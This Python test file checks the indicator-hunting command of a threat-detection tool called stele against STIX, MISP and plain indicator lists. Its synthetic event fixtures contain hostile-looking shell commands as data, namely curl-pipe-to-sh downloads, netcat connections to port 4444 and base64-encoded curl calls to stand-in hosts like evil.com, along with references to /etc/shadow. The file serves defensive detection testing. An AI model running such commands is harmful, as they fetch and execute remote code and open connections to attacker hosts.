"""stele hunt: finds what a slow matcher, written apart, finds, and no more; says what it looked at."""
import base64
import gzip
import ipaddress
import json
import os
import random
import re

from stele_tool import expect, expect_error, main

ADDRESSES = ["203.0.113.9", "93.180.71.3", "3.180.71.3", "10.0.0.1", "10.0.0.10", "198.51.100.7"]
NAMES = ["evil.com", "notevil.com", "x.evil.com", "evil.com.au", "deploy.example.org", "example.org"]
USERS = ["alice", "bob@evil.com", "carol"]


def make_event(draw, number):
    address, name = draw.choice(ADDRESSES), draw.choice(NAMES)
    event = {"event": "session.command", "uid": f"hunt-{number}", "user": draw.choice(USERS),
             "time": f"2026-10-{1 + number % 9:02d}T00:00:{number % 60:02d}Z",
             "addr.remote": f"{draw.choice(ADDRESSES)}:{draw.randint(1024, 65535)}"}
    shell = [f"curl http://{address}/x.sh | sh", f"ping -c1 {name}", f"ssh {name}:22", "ls -la",
             f"wget https://{name}/a?b={address}", f"nc {address} 4444",
             "echo " + base64.b64encode(f"curl http://{address}:80/ ".encode()).decode()]
    event["argv"] = ["-c", draw.choice(shell)]
    return event


def texts(value):
    if isinstance(value, dict):
        for inner in value.values():
            yield from texts(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from texts(inner)
    elif isinstance(value, str):
        yield value
        for run in re.findall(r"[A-Za-z0-9+/]{12,}", value):
            try:
                yield base64.b64decode(run + "=" * (-len(run) % 4)).decode("ascii")
            except ValueError:
                pass


def slow_match(event, indicator):
    """Obvious and slow: by regular expressions over every text of the event."""
    if indicator.startswith("user:"):
        return event["user"] == indicator[5:]
    for text in texts(event):
        if re.match(r"^[0-9./]+$", indicator):
            net = ipaddress.ip_network(indicator)
            for found in re.findall(r"(?<![\w.])\d+\.\d+\.\d+\.\d+(?![\w.])", text):
                if ipaddress.ip_address(found) in net:
                    return True
        elif re.search(r"(?<![\w.-])([\w-]+\.)*" + re.escape(indicator) + r"(?![\w.-])", text):
            return True
    return False


def the_same_as_a_slow_matcher(place):
    draw = random.Random(7)
    events = [make_event(draw, number) for number in range(3000)]
    place.stele("init", "a")
    lines = "".join(json.dumps(event) + "\n" for event in events).encode()
    expect(place.stele("import", "--archive", "a", "-", stdin=lines).code == 0, "import")
    indicators = ADDRESSES + ["10.0.0.0/8", "203.0.113.0/28"] + NAMES + ["user:alice"]
    result = place.stele("hunt", "--archive", "a", "--events", "-",
                         stdin="\n".join(indicators).encode())
    expect(result.code == 0, result.text())
    found = set()
    for line in result.out.splitlines():
        hit = json.loads(line)
        expect(hit["event"]["uid"] == hit["uid"], line)
        pair = (hit["indicator"], hit["uid"])
        expect(pair not in found, f"{pair} twice")
        found.add(pair)
    wanted = {(i, e["uid"]) for e in events for i in indicators if slow_match(e, i)}
    expect(found == wanted, f"missed {sorted(wanted - found)[:5]}, wrong {sorted(found - wanted)[:5]}")
    table = place.stele("hunt", "--archive", "a", "--output", "ndjson", "-",
                        stdin="\n".join(indicators).encode())
    counts = {row["indicator"]: row["events"] for row in map(json.loads, table.out.splitlines())}
    expect(sum(counts.values()) == len(wanted), f"{counts}")


def says_what_it_looked_at(place):
    place.stele("init", "a")
    events = [{"event": "x", "uid": str(i), "time": f"2026-10-{day:02d}T12:00:00Z", "user": "eve"}
              for i, day in enumerate((1, 2, 5))]
    lines = "".join(json.dumps(event) + "\n" for event in events).encode() + b"broken\n"
    place.stele("import", "--archive", "a", "-", stdin=lines)
    result = place.stele("hunt", "--archive", "a", "--output", "json", "--unseen", "-",
                         stdin=b"user:eve\n9.9.9.9\nco.uk\n")
    expect(result.code == 0 and b"a public suffix, not a host name; =NAME is exactly that host (line 3: co.uk)" in result.err, result.text())
    report = json.loads(result.out)
    coverage = report["coverage"]
    expect((coverage["events"], coverage["days"], coverage["quarantined"]) == (3, 3, 1), coverage)
    expect(coverage["gaps"] == [{"from": "2026-10-03", "days": 2}], coverage)
    rows = {row["indicator"]: row for row in report["indicators"]}
    expect(rows["user:eve"]["events"] == 3 and rows["9.9.9.9"]["events"] == 0, rows)
    expect(rows["user:eve"]["first_seen"] == "2026-10-01T12:00:00Z", rows)
    again = place.stele("hunt", "--archive", "a", "--output", "json", "-", stdin=b"9.9.9.9")
    expect(again.code == 1, "nothing found is 1")
    expect(json.loads(again.out)["coverage"]["sha256"] == coverage["sha256"], "the same was searched")
    part = place.stele("hunt", "--archive", "a", "--from", "2026-10-02", "--output", "csv", "-",
                       stdin=b"user:eve")
    expect(part.out.split(b"\r\n")[1].startswith(b"standard input,user:eve,user,2,2026-10-02T"), part.text())


def named_as_a_whole(place):
    """What a field holds by its name is found whole: with a port, which is kept apart, and as a number."""
    place.stele("init", "a")
    events = [{"event": "cert.create", "uid": f"n-{i}", "time": f"2026-10-01T00:{i // 60:02d}:{i % 60:02d}Z",
               "user": f"10.0.0.{i % 5}:{3000 + i % 7}", "serial_number": 1_000_000 + i} for i in range(900)]
    place.stele("import", "--archive", "a", "-", stdin="".join(json.dumps(e) + "\n" for e in events).encode())
    wanted = {"user:10.0.0.2:3003": sum(e["user"] == "10.0.0.2:3003" for e in events), "serial:1000300": 1, "user:10.0.0.2": 0, "10.0.0.2": 180,
              "user:10.0.0.2:3008": 0}
    result = place.stele("hunt", "--archive", "a", "--output", "ndjson", "--unseen", "-",
                         stdin="\n".join(wanted).encode())
    found = {row["indicator"]: row["events"] for row in map(json.loads, result.out.splitlines())}
    expect(wanted["user:10.0.0.2:3003"] > 0 and found == wanted, f"{found}, not {wanted}: {result.text()[:500]}")


def lists_of_many_kinds(place):
    place.stele("init", "a")
    event = {"event": "x", "uid": "1", "time": "2026-10-01T00:00:00Z", "addr.remote": "9.9.9.9:1"}
    place.stele("import", "--archive", "a", "-", stdin=json.dumps(event).encode())
    for name, data in (("plain", b"# c\r\n9[.]9[.]9[.]9\r\n"), ("wide", "9.9.9.9".encode("utf-16")),
                       ("zipped", gzip.compress(b"9.9.9.9\n")),
                       ("csv", b"date,type,value,ref\n1,ip-dst,9.9.9.9,http://feed.example/1\n"),
                       ("stix", json.dumps({"type": "bundle", "objects": [
                           {"type": "indicator", "pattern": "[ipv4-addr:value = '9.9.9.9']"}]}
                                           ).encode()),
                       ("long", b"x" * 10_000_000 + b"\n9.9.9.9\n")):
        with open(place.path(name), "wb") as f:
            f.write(data)
        result = place.stele("hunt", "--archive", "a", "--output", "ndjson", name)
        expect(result.code == 0, f"{name}: {result.text()[:300]}")
        expect(json.loads(result.out)["kind"] == "ip", result.out)


def stix(*patterns, **more):
    return json.dumps({"type": "bundle", "objects": [
        {"type": "indicator", "id": f"indicator--00000000-0000-4000-8000-{i:012d}", "pattern": p, **more}
        for i, p in enumerate(patterns)]}).encode()


def parts_of_a_pattern_are_on_one_event(place):
    """Every way to say yes or no, against a matcher that knows three fields only."""
    draw = random.Random(3)
    users, addresses, names = ("eve", "bob"), ("9.9.9.1", "9.9.9.2"), ("a.example", "b.example")
    events = [{"event": "x", "uid": f"p{i}", "time": f"2026-10-01T00:00:{i % 60:02d}Z",
               "user": draw.choice(users), "addr.remote": draw.choice(addresses) + ":1",
               "path": "//" + draw.choice(names)} for i in range(40)]
    place.stele("init", "a")
    place.stele("import", "--archive", "a", "-",
                stdin="".join(json.dumps(e) + "\n" for e in events).encode())
    user = "user-account:user_id = '{}'".format
    address = "ipv4-addr:value = '{}'".format
    url = "url:value = '{}'".format
    wanted = {
        f"[{user('eve')} AND {address('9.9.9.1')}]": lambda u, a: u == "eve" and a == "9.9.9.1",
        f"[{user('eve')} AND ({address('9.9.9.1')} OR {address('9.9.9.2')})]": lambda u, a: u == "eve",
        f"[{user('bob')} AND {address('9.9.9.1')} OR {user('eve')} AND {address('9.9.9.2')}]":
            lambda u, a: (u, a) in (("bob", "9.9.9.1"), ("eve", "9.9.9.2")),
        f"[{user('eve')} AND ipv4-addr:value ISSUBSET '9.9.9.2/31']": lambda u, a: u == "eve" and a == "9.9.9.2",
        f"[{user('eve')} AND {url('http://none.example/')}]": lambda u, a: False,
    }
    with open(place.path("and.json"), "wb") as f:
        f.write(stix(*wanted))
    result = place.stele("hunt", "--archive", "a", "--output", "ndjson", "--unseen", "and.json")
    rows = {row["indicator"]: row for row in map(json.loads, result.out.splitlines())}
    expect(set(rows) == set(wanted), f"parts are no rows: {result.text()}")
    for pattern, holds in wanted.items():
        count = sum(holds(e["user"], e["addr.remote"][:-2]) for e in events)
        expect(rows[pattern]["events"] == count, f"{pattern}: {count} and {rows[pattern]}")
        expect(rows[pattern]["kind"] == "pattern", rows[pattern])
    told = place.stele("hunt", "--archive", "a", "--events", "and.json").out.splitlines()
    hits = [json.loads(line) for line in told]
    expect(len(hits) == sum(row["events"] for row in rows.values()), len(hits))
    for hit in hits:
        expect(wanted[hit["indicator"]](hit["event"]["user"], hit["event"]["addr.remote"][:-2]), hit)
        expect({p["field"] for p in hit["parts"]} == {"user", "addr.remote"}, hit["parts"])
    alone = place.stele("hunt", "--archive", "a", "--output", "ndjson", "and.json", "-", stdin=b"user:bob\n")
    rows = {row["indicator"]: row["events"] for row in map(json.loads, alone.out.splitlines())}
    expect(rows.get("user:bob") == sum(e["user"] == "bob" for e in events), "a part given alone is a row")


def sure_and_unsure(place):
    place.stele("init", "a")
    event = {"event": "x", "uid": "1", "time": "2026-10-01T00:00:00Z", "addr.remote": "9.9.9.9:1", "user": "eve"}
    place.stele("import", "--archive", "a", "-", stdin=json.dumps(event).encode())
    with open(place.path("s.json"), "wb") as f:
        f.write(stix("[ipv4-addr:value = '9.9.9.9']", confidence=40, name="A bad one",
                     valid_from="2024-01-01T00:00:00Z"))
    row = json.loads(place.stele("hunt", "--archive", "a", "--output", "ndjson", "s.json").out)
    expect((row["confidence"], row["about"], row["valid_from"]) == (40, "A bad one", "2024-01-01T00:00:00Z"), row)
    expect(row["id"].startswith("indicator--0000"), row)
    both = place.stele("hunt", "--archive", "a", "--min-confidence", "41", "--output", "json", "s.json", "-",
                       stdin=b"user:eve\n")
    report = json.loads(both.out)
    expect([r["indicator"] for r in report["indicators"]] == ["user:eve"], "no confidence is not a low one")
    expect(report["lists"][0]["unsure"] == 1 and b"1 below --min-confidence" in both.err, both.text())
    expect_error(place.stele("hunt", "--archive", "a", "--min-confidence", "41", "s.json"), 3, "sure enough")
    expect_error(place.stele("hunt", "--archive", "a", "--min-confidence", "101", "s.json"), 2, "min-confidence")


def ended_validity(place):
    """Events of before the end of an indicator's validity are matched, those after it are not."""
    place.stele("init", "a")
    events = [{"event": "x", "uid": str(day), "time": f"2026-10-0{day}T00:00:00Z", "addr.remote": "9.9.9.9:1", "user": "eve"}
              for day in (1, 2, 3)]
    place.stele("import", "--archive", "a", "-", stdin="\n".join(map(json.dumps, events)).encode())
    whole = "[ipv4-addr:value = '9.9.9.9' AND user-account:user_id = 'eve']"
    with open(place.path("ended.json"), "wb") as f:
        f.write(stix("[ipv4-addr:value = '9.9.9.9']", whole, valid_until="2026-10-02T00:00:00Z"))
    with open(place.path("going_on.txt"), "wb") as f:
        f.write(b"9.9.9.9\n")

    def hits(*words):
        result = place.stele("hunt", "--archive", "a", "--events", "--output", "ndjson", *words)
        rows = [json.loads(line) for line in result.out.splitlines()]
        return {kind: sorted(row["uid"] for row in rows if row["kind"] == kind) for kind in ("ip", "pattern")}

    expect(hits("ended.json") == {"ip": ["1", "2"], "pattern": ["1", "2"]}, hits("ended.json"))
    expect(hits("--expired", "all", "ended.json") == {"ip": ["1", "2", "3"], "pattern": ["1", "2", "3"]}, "all")
    both = hits("ended.json", "going_on.txt")
    expect(both == {"ip": ["1", "2", "3"], "pattern": ["1", "2"]}, both)
    expect(b"matched with events of before that only" in place.stele("hunt", "--archive", "a", "ended.json").out, "said")
    expect(b"2: matched with all events" in place.stele("hunt", "--archive", "a", "--expired", "all", "ended.json").out,
           "said")
    left_out = place.stele("hunt", "--archive", "a", "--expired", "none", "ended.json")
    expect(left_out.code == 3 and b"2: no longer valid" in left_out.err, left_out.text())
    expect_error(place.stele("hunt", "--archive", "a", "--expired", "some", "ended.json"), 2, "expired")
    expect_error(place.stele("hunt", "--archive", "a", "--to-ids", "some", "ended.json"), 2, "to-ids")


def one_bad_list(place):
    """It is said, the others are hunted, and the exit code tells; so with a file of --suppress."""
    place.stele("init", "a")
    event = {"event": "x", "uid": "1", "time": "2026-10-01T00:00:00Z", "addr.remote": "9.9.9.9:1"}
    place.stele("import", "--archive", "a", "-", stdin=json.dumps(event).encode())
    for name, text in (("good.txt", b"9.9.9.9\n"), ("bad.json", b'{"name":"x"}'), ("cut.json", b'[{"ip":"8.8.8.8"},{"ip')):
        with open(place.path(name), "wb") as f:
            f.write(text)
    for words in (("good.txt", "bad.json"), ("bad.json", "good.txt"), ("cut.json", "good.txt"),
                  ("--suppress", "bad.json", "--", "good.txt"), ("--suppress", "nosuch", "--", "good.txt")):
        result = place.stele("hunt", "--archive", "a", "--output", "json", *words)
        named = next(word for word in words if word not in ("good.txt", "--suppress", "--"))
        expect(result.code in (2, 3) and named.encode() in result.err, f"{words}: {result.code} {result.text()}")
        rows = json.loads(result.out)["indicators"]
        expect([row["indicator"] for row in rows] == ["9.9.9.9"], f"{words}: {rows}")


def warninglist(type_, *entries, name="Harmless", attributes=()):
    return json.dumps({"name": name, "version": 3, "description": "d", "type": type_, "list": entries,
                       "matching_attributes": list(attributes)}).encode()


def suppressed_is_shown_and_does_not_count(place):
    events = [{"event": "x", "uid": f"s{i}", "time": f"2026-10-0{1 + i}T00:00:00Z", "user": user,
               "addr.remote": f"{address}:1", "path": path}
              for i, (user, address, path) in enumerate((
                  ("eve", "10.0.0.1", "http://cdn.example/a"), ("eve", "203.0.113.5", "203.0.113.77"),
                  ("bob", "10.0.0.2", "http://cdn.example/b 203.0.113.77"), ("bob", "198.51.100.9", "")))]
    place.stele("init", "a")
    place.stele("import", "--archive", "a", "-",
                stdin="".join(json.dumps(e) + "\n" for e in events).encode())
    place.write("w/cdn/list.json", warninglist("hostname", "cdn.example", attributes=["domain", "url"]))
    place.write("ioc", b"10.0.0.0/8\n203.0.113.0/24\ncdn.example\nuser:eve\n198.51.100.9\n")
    place.write("and.json", stix("[ipv4-addr:value = '10.0.0.1' AND user-account:user_id = 'eve']",
                                 "[ipv4-addr:value = '10.0.0.1' AND domain-name:value = 'cdn.example']"))

    def hunt(*words):
        result = place.stele("hunt", "--archive", "a", "--output", "json", *words)
        report = json.loads(result.out)
        return result, report, {(r["indicator"], r.get("suppressed")): r["events"] for r in report["indicators"]}

    _, plain, rows = hunt("ioc")
    expect(rows == {("10.0.0.0/8", None): 2, ("203.0.113.0/24", None): 2, ("cdn.example", None): 2,
                    ("user:eve", None): 2, ("198.51.100.9", None): 1}, rows)
    expect("suppressors" in plain and plain["suppressors"] == [], plain["suppressors"])
    result, report, rows = hunt("ioc", "--suppress-private", "--suppress", "w", "--own", "198.51.100.9",
                                "--own", "203.0.113.77/32")
    expect(result.code == 0, "user:eve counts")
    expect(rows == {("user:eve", None): 2, ("10.0.0.0/8", "private addresses"): 2, ("cdn.example", "Harmless"): 2,
                    ("203.0.113.0/24", None): 1, ("203.0.113.0/24", "own"): 1, ("198.51.100.9", "own"): 1}, rows)
    fields = [r["fields"] for r in report["indicators"] if r["indicator"] == "203.0.113.0/24" and "suppressed" not in r]
    expect(fields == [["addr.remote"]], "what is suppressed in an event that counts is not told as its place")
    sums = {s["name"]: (s["indicators"], s["hits"]) for s in report["suppressors"]}
    expect(sums == {"private addresses": (1, 2), "own": (1, 2), "Harmless": (1, 2)}, sums)
    expect(report["lists"][0]["hits"] == 3 and report["lists"][0]["seen"] == 2, report["lists"])
    expect({k["kind"]: (k["indicators"], k["seen"], k["hits"]) for k in report["kinds"]} ==
           {"ip": (3, 1, 1), "domain": (1, 0, 0), "user": (1, 1, 2)}, report["kinds"])
    table = place.stele("hunt", "--archive", "a", "ioc", "--suppress-private", "--unseen").out.decode()
    expect("suppressed 2 hits, 1 indicator: private addresses" in table, table)
    expect("kinds      ip: 3 indicators, 2 seen, 3 hits" in table and "lists      ioc: 5 indicators, 4 seen, 7 hits"
           in table, table)
    expect(len(re.findall(r"^10\.0\.0\.0/8 +ip +0 *$", table, re.M)) == 1, table)
    only = place.stele("hunt", "--archive", "a", "--suppress-private", "--output", "csv", "-", stdin=b"10.0.0.0/8\n")
    expect(only.code == 1 and b",private addresses,0\r\n" in only.out, only.text())
    told = place.stele("hunt", "--archive", "a", "--suppress-private", "--events", "-", stdin=b"10.0.0.0/8\n")
    expect([json.loads(line)["suppressed"] for line in told.out.splitlines()] == ["private addresses"] * 2, told.text())
    _, _, rows = hunt("and.json", "--suppress-private", "--suppress", "w")
    expect({(i.split(' AND ')[1].split()[0], s) for i, s in rows} ==
           {("domain-name:value", "private addresses"), ("user-account:user_id", None)}, rows)
    with open(place.path("a", "stele.conf"), "a", encoding="utf-8") as f:
        f.write("\n[hunt]\nsuppress = ../w\nown = 198.51.100.9, 203.0.113.77\nsuppress_private = yes\n")
    _, _, rows = hunt("ioc")
    expect({s for _, s in rows} == {None, "private addresses", "Harmless", "own"}, rows)


def warninglists_that_are_wrong(place):
    place.stele("init", "a")
    place.write("ioc", b"10.0.0.0/8\n")
    place.write("bad.json", b'{"name":"x"}')
    place.write("cut.json", b'{"name":"x","list":["a"')
    place.write("odd.json", warninglist("cidr", "10.0.0.0/8", "x"))

    def hunt(*words):
        return place.stele("hunt", "--archive", "a", "ioc", *words)

    for name, words in (("nosuch", b"nosuch"), ("bad.json", b"bad.json: not a MISP warninglist"),
                        ("cut.json", b"cut.json: not JSON")):
        left_out = hunt("--suppress", name)
        expect(left_out.code == 3 and b"0 of 1 indicator" in left_out.out, left_out.text())
        expect(words in left_out.err and left_out.err.count(b"\n") == 1, left_out.text())
    expect_error(hunt("--own", "co.uk"), 2, "co.uk")
    expect_error(hunt("--own", "user:bob"), 2, "not an address, range or domain")
    odd = hunt("--suppress", "odd.json")
    expect(odd.code == 1 and odd.err == b"odd.json: x: not an address\n", odd.text())


ID = r"[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}"
RFC3339 = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z"
WANTED = {"identity": {"name"}, "indicator": {"pattern", "pattern_type", "valid_from"}, "sighting": {"sighting_of_ref"}}


def check_bundle(bundle):
    """What STIX 2.1 says of bundles (8), common properties (3.2), sightings (5.2), indicators (4.7)."""
    expect(set(bundle) == {"type", "id", "objects"} and bundle["type"] == "bundle", bundle.keys())
    expect(re.fullmatch("bundle--" + ID, bundle["id"]), bundle["id"])
    ids = [thing["id"] for thing in bundle["objects"]]
    expect(len(set(ids)) == len(ids), "ids are there once")
    for thing in bundle["objects"]:
        expect(re.fullmatch(thing["type"] + "--" + ID, thing["id"]) or thing["id"].startswith("identity--"), thing)
        expect(thing["spec_version"] == "2.1" and WANTED[thing["type"]] <= set(thing), thing)
        for key in ("created", "modified"):
            expect(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", thing[key]), thing)
        for key in ("valid_from", "first_seen", "last_seen"):
            expect(key not in thing or re.fullmatch(RFC3339, thing[key]), thing)
        expect(all(value not in ("", [], {}) for value in thing.values()), "nothing empty")
        if thing["type"] == "sighting":
            expect(0 <= thing["count"] <= 999999999 and thing["first_seen"] <= thing["last_seen"], thing)
            expect(re.fullmatch("indicator--" + ID, thing["sighting_of_ref"]), thing)
            expect(all(ref in ids for ref in thing["where_sighted_refs"]), thing)
        if thing["type"] == "indicator":
            expect(thing["pattern_type"] == "stix" and re.fullmatch(r"\[.+ (=|ISSUBSET) '.*'\]", thing["pattern"]),
                   thing)


def sightings(place):
    place.stele("init", "a")
    event = {"event": "x", "uid": "1", "time": "2026-10-01T00:00:00.123456Z", "user": "o'neil\\x",
             "addr.remote": "9.9.9.9:1", "sid": "aa0e4567-0000-4000-8000-000000000001",
             "user_agent": "curl/8", "serial_number": "d1e5fcbf",
             "path": "http://evil.example/x /etc/shadow a.exe bob@evil.example 2001:db8::5 "
                     "d41d8cd98f00b204e9800998ecf8427e"}
    later = dict(event, uid="2", time="2026-10-02T00:00:00Z")
    place.stele("import", "--archive", "a", "-", stdin="\n".join(map(json.dumps, (event, later))).encode())
    lines = ["9.9.9.9", "9.9.0.0/16", "2001:db8::/32", "evil.example", "=evil.example", "http://evil.example/x",
             "evil.example/x", "bob@evil.example", "d41d8cd98f00b204e9800998ecf8427e", "user:o'neil\\x",
             "/etc/shadow", "a.exe", "aa0e4567-0000-4000-8000-000000000001", "agent:curl/8", "serial:d1e5fcbf"]
    place.write("and.json", stix("[ipv4-addr:value = '9.9.9.9' AND user-account:user_id = 'o\\'neil\\\\x']",
                                 confidence=70))

    def hunt(*words, text="\n".join(lines)):
        result = place.stele("hunt", "--archive", "a", "--output", "stix", "-", *words, stdin=text.encode())
        bundle = json.loads(result.out)
        check_bundle(bundle)
        return result, bundle["objects"]

    result, objects = hunt("and.json")
    expect(result.code == 0 and b"searched" in result.err, result.text())
    seen = [thing for thing in objects if thing["type"] == "sighting"]
    expect(len(seen) == len(lines) - 1 + 1, f"evil.example is there once: {len(seen)}")
    for sighting in seen:
        expect((sighting["count"], sighting["first_seen"], sighting["last_seen"], sighting["created"]) ==
               (2, "2026-10-01T00:00:00.123456Z", "2026-10-02T00:00:00Z", "2026-10-02T00:00:00.000Z"), sighting)
    made = {thing["id"]: thing for thing in objects if thing["type"] == "indicator"}
    given = [s["sighting_of_ref"] for s in seen if s["sighting_of_ref"] not in made]
    expect(given == ["indicator--00000000-0000-4000-8000-000000000000"], "the id that the list has")
    patterns = {thing["name"]: thing["pattern"] for thing in made.values()}
    expect(patterns["9.9.0.0/16"] == "[ipv4-addr:value ISSUBSET '9.9.0.0/16']", patterns)
    expect(patterns["2001:db8::/32"] == "[ipv6-addr:value ISSUBSET '2001:0db8:0000:0000:0000:0000:0000:0000/32']",
           patterns)
    expect(patterns["user:o'neil\\x"] == "[user-account:user_id = 'o\\'neil\\\\x']", patterns)
    expect(patterns["/etc/shadow"] == "[file:name = 'shadow' AND file:parent_directory_ref.path = '/etc']", patterns)
    again = {thing["id"] for thing in hunt("and.json")[1]}
    expect(again == {thing["id"] for thing in objects}, "the same things have the same ids")
    place.write("round.json", json.dumps({"type": "bundle", "objects": [
        thing for thing in made.values() if "parent_directory" not in thing["pattern"] and
        "x-teleport" not in thing["pattern"]]}))
    back = place.stele("hunt", "--archive", "a", "--output", "ndjson", "round.json")
    expect(back.code == 0 and back.err.count(b"not read") == 0, back.text())
    result, objects = hunt(text="9.9.9.8")
    expect(result.code == 1 and [thing["type"] for thing in objects] == ["identity"], objects)
    result, objects = hunt("--own", "9.9.9.9", text="9.9.9.9")
    expect(result.code == 1 and len(objects) == 1, "what is suppressed is no sighting")


def wrong_use(place):
    place.stele("init", "a")
    expect_error(place.stele("hunt", "--archive", "a"), 2, "lists of indicators")
    expect_error(place.stele("hunt", "--archive", "a", "nosuch"), 3, "nosuch")
    expect_error(place.stele("hunt", "--archive", "a", "-", "--output", "xml"), 2, "xml")
    expect_error(place.stele("hunt", "--archive", "a", "-", stdin=b""), 3, "no indicator")
    expect_error(place.stele("hunt", "--archive", "a", "-", stdin=b'{"a":1}'), 3, "no indicator")
    expect_error(place.stele("hunt", "--archive", "a", "-", "--query", "(", stdin=b"1.1.1.1"), 2,
                 "character")
    expect(not os.path.exists(place.path("nosuch")), "nothing made")


main(the_same_as_a_slow_matcher, says_what_it_looked_at, named_as_a_whole, lists_of_many_kinds,
     parts_of_a_pattern_are_on_one_event, sure_and_unsure, ended_validity, one_bad_list,
     suppressed_is_shown_and_does_not_count, warninglists_that_are_wrong, sightings, wrong_use)
